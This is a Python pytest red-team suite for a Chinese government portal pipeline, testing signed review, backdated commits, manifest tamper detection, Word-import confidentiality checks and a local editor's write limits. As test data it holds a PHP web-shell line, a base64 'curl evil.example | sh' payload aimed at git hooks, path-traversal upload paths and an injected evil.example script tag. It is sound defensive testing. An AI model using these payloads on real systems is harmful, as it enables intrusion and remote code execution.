"""Red-team pass over issue 14 (审签, dates that can be proved, the signed manifest) and issue 13
(Word import, the web editor): each test is an attack — most once got through (an item published
whose review or date cannot be proved, a tampered site that verified, a write outside the folder
it was meant for); the few that held say so.  Repositories, keys and documents are made at test
time."""

from __future__ import annotations

import shutil

import pytest

from provenance_repo import ITEM, Repo, item_text, published

needs_git = pytest.mark.skipif(
    shutil.which("ssh-keygen") is None or shutil.which("git") is None, reason="需要 git 与 ssh-keygen"
)


@pytest.fixture
def repo(tmp_path) -> Repo:
    return Repo(tmp_path / "repo")


# ---------------------------------------------------------------- 伪造发稿日期: the commit's own date


@needs_git
@pytest.mark.parametrize("starts", [None, "2026-11-10"])
def test_a_commit_dated_before_its_parent_does_not_hide_a_backdated_item(repo, starts):
    """git's committer date is whatever the committer's clock or GIT_COMMITTER_DATE says: an item
    dated 2026-11-02, added on 2026-11-25 on top of history, in a commit that claims 2026-11-02
    (or a date before ``history_starts``, to pass as migrated archive), is still backdated — no
    commit is earlier than its parents."""
    repo.reviewers(require=False, history_starts=starts)
    repo.write("bureau/2026/2026-11-25-other.md", item_text(title="另一条信息", date="2026-11-25 09:00"))
    repo.commit("另一条信息", date="2026-11-25T10:00:00+08:00")
    repo.write(ITEM, item_text(date="2026-11-02 10:00"))
    forged = "2026-11-02T11:00:00+08:00" if starts is None else "2026-10-01T11:00:00+08:00"
    repo.commit("补录信息", date=forged)
    found = repo.findings(ITEM)
    assert set(found) == {"backdated"}, found
    assert "2026-11-02" in found["backdated"] and "2026-11-25" in found["backdated"]
    assert repo.findings("bureau/2026/2026-11-25-other.md") == {}


@needs_git
def test_a_commit_dated_in_the_future_does_not_make_every_later_item_backdated(repo):
    """The other side of counting a commit no older than its parents: one commit from a machine
    whose clock says 2099 must not date every later commit 2099 — each later item
    would be "backdated" for ever.  A parent more than a day in the future is a wrong clock."""
    repo.reviewers(require=False)
    repo.write("bureau/2026/2026-11-19-clock.md", item_text(title="时钟错误的电脑提交", date="2026-11-19 10:00"))
    repo.commit("时钟错误", date="2099-12-31T12:00:00+08:00")
    repo.write(ITEM, item_text(date="2026-11-20 10:00"))
    repo.commit("新信息", date="2026-11-20T12:00:00+08:00")
    assert repo.findings(ITEM) == {}
    assert set(repo.findings("bureau/2026/2026-11-19-clock.md")) == {"backdated"}


# ---------------------------------------------------------------- 防篡改: portal verify --restore


def _small_site(folder, key=None):
    from pipeline import manifest

    (folder / "assets").mkdir(parents=True)
    (folder / "index.html").write_text("<h1>首页</h1>\n", encoding="utf-8")
    (folder / "assets" / "app.css").write_text("body{}\n", encoding="utf-8")
    (folder / "assets" / "app.js").write_text("// app\n", encoding="utf-8")
    manifest.write(folder, key)
    return folder


@pytest.mark.parametrize("replacement", ["symlink", "file"])
def test_restore_puts_back_a_folder_replaced_by_a_link_or_a_file_and_writes_nothing_outside(tmp_path, replacement):
    """The attacker replaces ``assets/`` with a symlink to a folder of their choice (or with a
    file): restoring must not write the built files through the link — outside the web root,
    as the user cron runs as — and must leave a web root that verifies, not one that lost the
    folder (or a traceback)."""
    from pipeline import manifest

    trusted = _small_site(tmp_path / "build")
    www = tmp_path / "www"
    shutil.copytree(trusted, www)
    outside = tmp_path / "outside"
    outside.mkdir()
    shutil.rmtree(www / "assets")
    if replacement == "symlink":
        (www / "assets").symlink_to(outside, target_is_directory=True)
    else:
        (www / "assets").write_text("<?php system($_GET['c']); ?>", encoding="utf-8")
    files, _ = manifest.load(www, None)
    difference = manifest.compare(www, files)
    assert set(difference.missing) == {"assets/app.css", "assets/app.js"} and difference.extra == ("assets",)
    manifest.restore(www, files, trusted, difference)
    assert sorted(p.name for p in outside.iterdir()) == []
    assert (www / "assets").is_dir() and not (www / "assets").is_symlink()
    assert manifest.compare(www, files).clean


# ---------------------------------------------------------------- 审签: who may change the list of reviewers


def _add_reviewer(repo: Repo, name: str = "张三", who: str = "stranger", require: bool = True) -> None:
    path = repo.config_dir / "reviewers.yaml"
    text = path.read_text(encoding="utf-8") + f"  - {{name: {name}, sites: [bureau], keys: ['{repo.pub[who]}']}}\n"
    if not require:
        text = text.replace("require_signature: true", "require_signature: false")
    path.write_text(text, encoding="utf-8")


@needs_git
@pytest.mark.parametrize("change", ["add-key", "switch-off", "delete"])
def test_an_unsigned_change_to_reviewers_yaml_does_not_let_anyone_approve(repo, change):
    """reviewers.yaml sits in the same repository that anyone with commit access writes: an
    unsigned commit adding the committer's own key as a reviewer, switching ``require_signature``
    off, or deleting the file, would let them publish with a ``reviewer:`` line again.  Once
    signatures are required, a change to the list counts only in a commit signed by a reviewer
    of the list before it; otherwise the build fails closed, naming the file and the commit."""
    from pipeline import publication

    if change == "delete":
        (repo.config_dir / "reviewers.yaml").unlink()
    else:
        _add_reviewer(repo, require=change == "add-key")
    bad = repo.commit("调整审签人名单")  # not signed
    repo.write(ITEM, item_text(reviewer="张三" if change == "add-key" else "王建国"))
    repo.commit("新信息", signer="stranger" if change == "add-key" else None)
    with pytest.raises(publication.HistoryUnavailable) as raised:
        repo.run()
    assert "reviewers.yaml" in str(raised.value) and bad[:10] in str(raised.value)


@needs_git
def test_a_change_to_reviewers_yaml_signed_by_a_listed_reviewer_counts(repo):
    _add_reviewer(repo)
    repo.commit("增加审签人张三", signer="wang")
    repo.write(ITEM, item_text(reviewer="张三"))
    repo.commit("新信息", signer="stranger")
    assert repo.findings(ITEM) == {}
    # and the next change needs a signature again, now also 张三's
    (repo.config_dir / "reviewers.yaml").write_text(
        (repo.config_dir / "reviewers.yaml").read_text(encoding="utf-8") + "# 备注\n", encoding="utf-8"
    )
    repo.commit("备注", signer="stranger")
    assert repo.findings(ITEM) == {}


PAGE = "---\ntitle: 领导分工\nsection: xxgk\norder: 4\n---\n## 赵振华　党组书记、局长\n\n主持市商务局全面工作。\n"


@needs_git
def test_a_static_page_changed_without_a_signed_approval_is_not_published(repo):
    """Signed 审签 covered the items only: 领导分工, 机构职能, 联系我们 (content/pages/) went online
    from any commit, signed or not.  With signatures required a page needs, like an item, a signed
    commit of a reviewer of the main site that changed it or names it, at its present version."""
    (repo.content / "pages").mkdir()
    (repo.content / "pages" / "leaders.md").write_text(PAGE, encoding="utf-8")
    repo.write(ITEM, item_text())
    repo.commit("新信息和页面", signer="wang")
    pub, _ = repo.run()
    assert [p.name for p in pub.pages] == ["leaders"]  # signed by a reviewer of the main site
    (repo.content / "pages" / "leaders.md").write_text(PAGE.replace("赵振华", "钱某某"), encoding="utf-8")
    repo.commit("改领导分工")  # not signed
    pub, _ = repo.run()
    assert [p.name for p in pub.pages] == []
    assert {f.rule for f in pub.findings if f.path == "pages/leaders.md"} == {"review-outdated"}
    repo.commit("审签页面", signer="li", allow_empty=True, trailers=("Reviewed-item: pages/leaders.md",))
    pub, _ = repo.run()  # 李梅 approves for 南岸县 only
    assert [p.name for p in pub.pages] == []
    assert {f.rule for f in pub.findings if f.path == "pages/leaders.md"} == {"reviewer-not-allowed"}
    # the reviewer's one command approves a page too
    from helpers import run_portal

    repo.git("config", "user.signingkey", str(repo.keys / "wang"))
    page = str(repo.content / "pages" / "leaders.md")
    done = run_portal("approve", "--content", str(repo.content), "--config", str(repo.config_dir), page)
    assert done.returncode == 0, done.stderr
    pub, _ = repo.run()
    assert [p.name for p in pub.pages] == ["leaders"] and any(i.path == f"items/{ITEM}" for i in pub.published)


@needs_git
def test_the_annual_report_data_changed_without_a_signed_approval_is_not_published(repo):
    """content/disclosure/<年度>.yaml holds the figures of the 政府信息公开工作年度报告 (依申请公开 …):
    an unsigned commit changing them published that year's report as if reviewed.  With
    signatures required it needs a main-site reviewer's signed approval, or the year's report is
    not published."""
    from helpers import ROOT

    for folder in ("disclosure", "website-report"):
        (repo.content / folder).mkdir()
        shutil.copy(ROOT / "content" / folder / "2025.yaml", repo.content / folder / "2025.yaml")
    repo.commit("年度报告数据")  # not signed
    pub, _ = repo.run()
    for rel in ("disclosure/2025.yaml", "website-report/2025.yaml"):
        assert any(f.path == rel and f.rule == "unsigned-review" for f in pub.findings), rel
    assert pub.report_data.disclosure_file(2025).problem is not None  # the 2025 report is not published
    assert pub.report_data.website_file(2025).data == {}  # the 报表 shows only what the items give
    trailers = ("Reviewed-item: disclosure/2025.yaml", "Reviewed-item: website-report/2025.yaml")
    repo.commit("审签年度报告数据", signer="wang", allow_empty=True, trailers=trailers)
    pub, _ = repo.run()
    assert not [f for f in pub.findings if f.path.endswith("/2025.yaml") and f.severity == "error"]
    assert pub.report_data.disclosure_file(2025).problem is None and pub.report_data.website_file(2025).data


# ---------------------------------------------------------------- 网页编辑器: the local backend's reach


def _decap(editor, action: str, params: dict) -> int:
    import json

    from cms_serve import post_to_socket

    body = json.dumps({"action": action, "params": {"branch": "main", **params}}).encode()
    return post_to_socket(editor.socket_path, body)[0]


def _outside(project, content) -> dict:
    return {
        p.relative_to(project).as_posix(): p.read_bytes()
        for p in sorted(project.rglob("*"))
        if p.is_file() and content not in p.parents
    }


def test_the_local_editor_backend_writes_only_inside_content(tmp_path):
    """``portal serve --cms`` runs decap-server without login (once on a loopback port any local
    process could call with any ``Origin``; now on a Unix socket of this user's).  It served the
    whole project folder: a media upload or entry named ``site_config/reviewers.yaml``,
    ``.git/hooks/pre-commit`` or ``pipeline/…`` rewrote the reviewers' keys or planted code.  It
    may write only under ``content/``, where every write is checked like any item."""
    import base64

    import yaml

    from helpers import ROOT
    from pipeline import cms
    from pipeline.cms_server import Editor

    if not (cms.CMS_DIR / "node_modules" / "decap-server" / "dist" / "index.js").is_file() or not shutil.which("node"):
        pytest.skip("没有安装网页编辑器（make cms-deps）或 node")
    project = tmp_path / "portal"
    content = project / "content"
    (content / "items").mkdir(parents=True)
    (project / ".git" / "hooks").mkdir(parents=True)
    (project / "pipeline").mkdir()
    shutil.copytree(ROOT / "site_config", project / "site_config")
    before = _outside(project, content)
    (tmp_path / "work").mkdir()
    editor = Editor.start(content, project / "site_config", tmp_path / "work", ROOT / "mkdocs.yml", "127.0.0.1", 8000)
    try:
        config = yaml.safe_load(editor.config_yml)
        media, folder = config["media_folder"], config["collections"][0]["folder"]
        data = base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh\n").decode()

        def upload(path: str) -> int:
            asset = {"path": path, "content": data, "encoding": "base64"}
            return _decap(editor, "persistMedia", {"asset": asset, "options": {"commitMessage": "x"}})

        def save(entry: dict) -> int:
            options = {"commitMessage": "x", "useWorkflow": False, "status": "draft"}
            return _decap(editor, "persistEntry", {"dataFiles": [entry], "assets": [], "options": options})

        assert upload(f"{media}/ok.txt") == 200
        assert (content / "files" / "ok.txt").is_file()  # the editor's own uploads still work
        for target in ("site_config/reviewers.yaml", ".git/hooks/pre-commit", "pipeline/evil.py"):
            for path in (target, f"../{target}", f"content/../{target}"):
                upload(path)
                save({"slug": "x", "path": path, "raw": "---\ntitle: x\n---\n"})
                save({"slug": "x", "path": f"{folder}/ok.md", "raw": "x", "newPath": path})
    finally:
        editor.stop()
    assert _outside(project, content) == before


@needs_git
def test_an_unsigned_change_to_reviewers_yaml_dated_before_a_signed_one_is_still_refused(repo):
    """An unsigned change made on top of history but dated before the last signed change (git's
    dates are self-declared): the change nearest HEAD is still the one judged — this attack held."""
    from pipeline import publication

    path = repo.config_dir / "reviewers.yaml"
    path.write_text(path.read_text(encoding="utf-8") + "# 审签人名单\n", encoding="utf-8")
    repo.commit("名单备注", signer="wang", date="2026-11-10T09:00:00+08:00")
    _add_reviewer(repo)
    bad = repo.commit("调整审签人名单", date="2026-11-05T09:00:00+08:00")  # unsigned, dated back
    repo.write(ITEM, item_text(reviewer="张三"))
    repo.commit("新信息", signer="stranger", date="2026-11-20T12:00:00+08:00")
    with pytest.raises(publication.HistoryUnavailable) as raised:
        repo.run()
    assert "reviewers.yaml" in str(raised.value) and bad[:10] in str(raised.value)


@needs_git
def test_a_merge_commit_changing_an_approved_item_is_review_outdated(repo):
    """``git log --name-status`` shows no changes for merge commits: an "evil merge" that edits
    an approved item while merging another branch leaves no trace among the item's changes.  The
    approval is still judged by the bytes it signed — this attack held."""
    repo.write(ITEM, item_text())
    repo.commit("新信息", signer="wang")
    repo.git("checkout", "-q", "-b", "side")
    repo.write("bureau/2026/2026-11-21-side.md", item_text(title="另一条信息", date="2026-11-21 10:00"))
    repo.commit("另一条信息", signer="wang", date="2026-11-21T12:00:00+08:00")
    repo.git("checkout", "-q", "main")
    repo.git("merge", "-q", "--no-ff", "--no-commit", "side")
    repo.write(ITEM, item_text().replace("听取企业", "听取部分企业"))
    repo.commit("合并", date="2026-11-21T13:00:00+08:00")
    assert "review-outdated" in repo.findings(ITEM)
    assert repo.findings("bureau/2026/2026-11-21-side.md") == {}


@needs_git
def test_a_revoked_key_approves_nothing_any_more(repo):
    """A key taken out of reviewers.yaml (lost, compromised — in a change another reviewer signed)
    no longer proves any approval, old or new: git checks against the list as it is now.  Held."""
    repo.write(ITEM, item_text())
    repo.commit("新信息", signer="wang")
    assert repo.findings(ITEM) == {}
    path = repo.config_dir / "reviewers.yaml"
    path.write_text(path.read_text(encoding="utf-8").replace(repo.pub["wang"], repo.pub["stranger"]), encoding="utf-8")
    repo.commit("王建国换钥匙（旧钥匙遗失）", signer="li")
    assert set(repo.findings(ITEM)) == {"unsigned-review"}
    repo.commit("重新审签", signer="stranger", allow_empty=True, trailers=(f"Reviewed-item: items/{ITEM}",))
    assert repo.findings(ITEM) == {}


# ---------------------------------------------------------------- 审签: what the approval covers


@needs_git
def test_an_attachment_replaced_after_the_approval_is_not_published_as_approved(repo):
    """审签 proved the item file's bytes only: the file it links (an attachment, an image) replaced
    in a later unsigned commit went online as approved — content the reviewer never saw.  The
    approval covers every file the item refers to; a changed one makes it ``review-outdated``, and
    the item's files stay offline with it."""
    files = repo.content / "files"
    files.mkdir()
    (files / "report.csv").write_text("企业,订单\n甲公司,12\n", encoding="utf-8")
    repo.write(ITEM, item_text(extra="attachments:\n  - {name: 企业名单, file: files/report.csv}\n"))
    repo.commit("新信息", signer="wang")
    pub, _ = repo.run()
    assert [a.path for a in pub.attached] == ["files/report.csv"]  # approved together, published together
    (files / "report.csv").write_text("企业,订单\n乙公司,99\n", encoding="utf-8")
    repo.commit("更新附件")  # not signed: the reviewer never saw this file
    pub, _ = repo.run()
    assert not any(i.path == f"items/{ITEM}" for i in pub.published)
    assert "files/report.csv" not in [a.path for a in pub.attached]
    found = repo.findings(ITEM)
    assert set(found) == {"review-outdated"} and "files/report.csv" in found["review-outdated"]
    # the reviewer looks again: portal approve signs the item with the files it refers to as they
    # are now (here a new version not even committed yet)
    from helpers import run_portal

    (files / "report.csv").write_text("企业,订单\n丙公司,7\n", encoding="utf-8")
    repo.git("config", "user.signingkey", str(repo.keys / "wang"))
    item = str(repo.content / "items" / ITEM)
    done = run_portal("approve", "--content", str(repo.content), "--config", str(repo.config_dir), item)
    assert done.returncode == 0, done.stderr
    assert not repo.git("status", "--porcelain", "--", "content/files").stdout  # committed with the approval
    pub, _ = repo.run()
    assert any(i.path == f"items/{ITEM}" for i in pub.published)
    assert [a.path for a in pub.attached] == ["files/report.csv"]


@needs_git
def test_an_item_in_a_county_folder_cannot_publish_on_the_main_site(repo):
    """``portal codeowners`` makes the git host require the reviewers of the item's folder
    (``content/items/<site>/``) before a merge, but the front matter's ``site`` decides where it is
    published: an item under ``items/donghu/`` saying ``site: bureau`` was merged on the county
    reviewer's approval and went online on the main site.  With signatures off (the host's
    review is then the only 审签) nothing else looked."""
    repo.reviewers(require=False)
    rel = "donghu/2026/2026-11-20-meeting.md"
    repo.write(rel, item_text(site="bureau", column="news"))
    repo.commit("新信息")
    assert not published(repo, rel)
    assert set(repo.findings(rel)) == {"site-folder"} and "items/bureau/" in repo.findings(rel)["site-folder"]
    # a folder of no sub-site has no code owner at all
    rel = "misc/2026/2026-11-20-meeting.md"
    repo.write(rel, item_text(site="bureau", column="news"))
    repo.commit("新信息")
    assert set(repo.findings(rel)) == {"site-folder"} and not published(repo, rel)


# ---------------------------------------------------------------- Word 导入: what the import leaves out


def _renamed_header(source, target) -> None:
    """The same document with its header part stored under another name (the part name is the
    producer's choice: Word calls it header1.xml, others need not — the relationship finds it)."""
    import zipfile

    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            name = info.filename
            if name == "word/header1.xml":
                name = "word/hdr-first.xml"
            elif name in ("word/_rels/document.xml.rels", "[Content_Types].xml"):
                data = data.replace(b"header1.xml", b"hdr-first.xml")
            zout.writestr(name, data)


def _with_properties(source, target) -> None:
    """The same document with 密级 in its properties (title and a custom 密级 property, as OA systems write them)."""
    import zipfile

    custom = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
        'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
        '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="密级">'
        "<vt:lpwstr>机密★5年</vt:lpwstr></property></Properties>"
    ).encode()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/docProps/custom.xml" ContentType="application/vnd.openxmlformats-'
                    b'officedocument.custom-properties+xml"/></Types>',
                )
            elif info.filename == "_rels/.rels":
                data = data.replace(
                    b"</Relationships>",
                    b'<Relationship Id="rIdCustom" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                    b'relationships/custom-properties" Target="docProps/custom.xml"/></Relationships>',
                )
            zout.writestr(info.filename, data)
        zout.writestr("docProps/custom.xml", custom)


@pytest.mark.parametrize("where", ["renamed-header", "properties"])
def test_a_classification_mark_the_import_would_drop_refuses_the_document(tmp_path, where):
    """Headers, footers and document properties are not imported; a 密级标志 there marks the whole
    document as classified, so it must refuse the import, not vanish with them — also when the
    header part is not called header1.xml, and when the mark is in the properties."""
    from docx import Document

    import docx_fixtures as fx
    from helpers import ROOT
    from pipeline.config import load_config
    from pipeline.word_import import Options, plan

    doc = Document()
    if where == "renamed-header":
        doc.sections[0].header.paragraphs[0].text = "秘密★1年"
    doc.add_paragraph("东湖区外贸形势分析").alignment = 1
    doc.add_paragraph(fx.BODY)
    plain = tmp_path / "plain.docx"
    doc.save(str(plain))
    folder = tmp_path / "报送"
    folder.mkdir()
    (_renamed_header if where == "renamed-header" else _with_properties)(plain, folder / "分析.docx")
    outcome = plan(
        [folder], tmp_path / "content", load_config(ROOT / "site_config"), Options("donghu", "local", author="李晓梅")
    )[0]
    assert not outcome.imported and "密级标志" in (outcome.refused or ""), outcome


# ---------------------------------------------------------------- 防篡改: portal verify URL


def test_verify_over_http_checks_what_a_folder_address_serves(tmp_path):
    """Readers open ``/`` and ``/news/``, not ``/index.html``: a web server that prefers an
    injected ``index.php`` (nginx ``index index.php index.html``) serves the attacker's page at the
    folder address while ``/index.html`` is still the built file.  Over HTTP extra files cannot be
    listed, so each ``…/index.html`` is also fetched at its folder address."""
    import functools
    import threading
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    from pipeline import manifest

    site = _small_site(tmp_path / "www")
    (site / "news").mkdir()
    (site / "news" / "index.html").write_text("<h1>新闻</h1>\n", encoding="utf-8")
    manifest.write(site)

    class Hijacked(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_GET(self):
            if self.path in ("/", "/news/"):
                body = b"<h1>\xe5\x81\x87\xe9\xa1\xb5\xe9\x9d\xa2</h1><script src=//evil.example/x.js></script>"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)
                return
            super().do_GET()

    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Hijacked, directory=str(site)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/"
        files, _ = manifest.fetch_manifest(url, None)
        difference = manifest.compare_url(url, files)
    finally:
        server.shutdown()
        server.server_close()
    assert not difference.clean
    assert set(difference.modified) == {"/", "news/"}, difference


@needs_git
def test_codeowners_also_guards_the_list_of_reviewers_and_itself(repo):
    """CODEOWNERS named owners for the items only: a merge request adding its author to
    reviewers.yaml, or rewriting CODEOWNERS to own every folder, needed no reviewer's approval —
    and with it, every later item.  The configuration (reviewers, confidentiality rules) and the
    CODEOWNERS files are owned by the reviewers, as the build asks a reviewer's signature for
    reviewers.yaml."""
    from helpers import run_portal

    out = repo.root / "CODEOWNERS"
    done = run_portal("codeowners", "--config", str(repo.config_dir), "--out", str(out))
    assert done.returncode == 0, done.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    guarded_paths = ("/site_config/", "/CODEOWNERS", "/.github/CODEOWNERS", "/.gitlab/CODEOWNERS", "/.gitlab-ci.yml")
    for guarded in (*guarded_paths, "/.github/workflows/"):
        assert f"{guarded} @wangjg" in lines, (guarded, lines)


def _with_footnote(source, target, part: str, run: str) -> None:
    """The same document with one footnote (its part stored as ``part``) holding ``run``."""
    import zipfile

    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    notes = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{w}">'
        f'<w:footnote w:id="1"><w:p>{run}</w:p></w:footnote></w:footnotes>'
    ).encode()
    rel = (
        '<Relationship Id="rIdNotes" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'footnotes" Target="{part.removeprefix("word/")}"/></Relationships>'
    ).encode()
    kind = (
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.'
        'wordprocessingml.footnotes+xml"/></Types>'
    ).encode()
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "word/document.xml":
                data = data.replace(b"</w:p>", b'<w:r><w:footnoteReference w:id="1"/></w:r></w:p>', 1)
            elif info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rel)
            elif info.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", kind)
            zout.writestr(info.filename, data)
        zout.writestr(part, notes)


@pytest.mark.parametrize("part", ["word/footnotes.xml", "word/notes-1.xml"])
def test_hidden_text_in_a_footnote_refuses_the_document_whatever_the_part_is_called(tmp_path, part):
    """mammoth keeps hidden text; the import refuses documents with it — but looked for it only in
    parts named like Word's (footnotes.xml, endnotes.xml).  A footnote part under another name
    (the relationship finds it, and mammoth imports it) published its hidden text."""
    from docx import Document

    import docx_fixtures as fx
    from pipeline.docx_read import Refused, read_docx

    doc = Document()
    doc.add_paragraph("东湖区外贸形势分析").alignment = 1
    doc.add_paragraph(fx.BODY)
    plain = tmp_path / "plain.docx"
    doc.save(str(plain))
    hidden = "<w:r><w:rPr><w:vanish/></w:rPr><w:t>内部掌握：不对外</w:t></w:r><w:r><w:t>注释</w:t></w:r>"
    _with_footnote(plain, tmp_path / "分析.docx", part, hidden)
    with pytest.raises(Refused, match="隐藏文字"):
        read_docx((tmp_path / "分析.docx").read_bytes())


def test_a_classification_mark_in_a_footnote_on_the_title_refuses_the_document(tmp_path):
    """A footnote is imported with its paragraph; one attached to the title (which becomes front
    matter) vanished with it — and a 密级标志 in it with no word said."""
    from docx import Document

    import docx_fixtures as fx
    from helpers import ROOT
    from pipeline.config import load_config
    from pipeline.word_import import Options, plan

    doc = Document()
    doc.add_paragraph("东湖区外贸形势分析").alignment = 1
    doc.add_paragraph(fx.BODY)
    plain = tmp_path / "plain.docx"
    doc.save(str(plain))
    folder = tmp_path / "报送"
    folder.mkdir()
    _with_footnote(plain, folder / "分析.docx", "word/footnotes.xml", "<w:r><w:t>机密★1年</w:t></w:r>")
    outcome = plan(
        [folder], tmp_path / "content", load_config(ROOT / "site_config"), Options("donghu", "local", author="李晓梅")
    )[0]
    assert not outcome.imported and "脚注或尾注中有密级标志" in (outcome.refused or ""), outcome


def test_a_signed_manifest_of_another_site_does_not_verify(tmp_path):
    """One deployment key may sign several portals (or one allowed_signers file list them all):
    another site's files with its own signed manifest, put in this web root wholesale, verified —
    the signature says who signed, not for which site.  The manifest names its site (portal.yaml
    ``site_url``) and ``portal verify --site`` checks it.  (An older build of this same site
    still verifies: against a rollback, read the manifest from a trusted copy, --manifest-from.)"""
    import subprocess

    from helpers import run_portal
    from pipeline import manifest

    if shutil.which("ssh-keygen") is None:
        pytest.skip("没有 ssh-keygen")
    key = tmp_path / "deploy"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "deploy", "-f", str(key)], check=True)
    public = key.with_suffix(".pub").read_text().split()
    signers = tmp_path / "allowed_signers"
    signers.write_text(f'portal-deploy namespaces="portal-manifest" {public[0]} {public[1]}\n', encoding="utf-8")
    other = _small_site(tmp_path / "other-site")
    (other / "index.html").write_text("<h1>另一个网站</h1>\n", encoding="utf-8")
    manifest.write(other, key, site_url="https://kfq.example.gov.cn/")
    www = _small_site(tmp_path / "www")
    manifest.write(www, key, site_url="https://swj.example.gov.cn/")
    ours = ("--allowed-signers", str(signers), "--site", "https://swj.example.gov.cn")
    assert run_portal("verify", str(www), *ours).returncode == 0
    shutil.rmtree(www)
    shutil.copytree(other, www)  # the web root replaced wholesale, manifest and signature included
    assert run_portal("verify", str(www), "--allowed-signers", str(signers)).returncode == 0  # the signature holds
    done = run_portal("verify", str(www), *ours)
    assert done.returncode == 1 and "kfq.example.gov.cn" in done.stderr and "Traceback" not in done.stderr
    # the manifest is still written as json writes it (the fast writer knows the site key)
    import json

    value = json.loads((www / manifest.NAME).read_bytes())
    assert manifest.dumps(value) == (json.dumps(value, ensure_ascii=False, indent=1, sort_keys=True) + "\n").encode()
